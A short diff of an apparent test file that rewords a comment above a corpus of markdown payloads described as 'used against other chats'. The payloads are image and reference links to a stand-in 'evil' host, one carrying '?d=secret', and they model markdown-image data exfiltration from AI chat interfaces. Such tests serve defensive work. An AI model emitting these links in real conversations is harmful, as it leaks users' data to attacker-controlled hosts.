@@ -10,7 +10,7 @@ beforeAll(async () => {
 });
 afterAll(() => Promise.all([panels.close(), canary.close()]));
 
-/** Texts that were used against other chats, and their relatives. */
+/** Texts that were used against other chats, and variations of them. */
 const corpus = (evil: string): readonly string[] => [
   `![x](${evil}/image.png)`,
   `![x][r]\n\n[r]: ${evil}/reference?d=secret`,
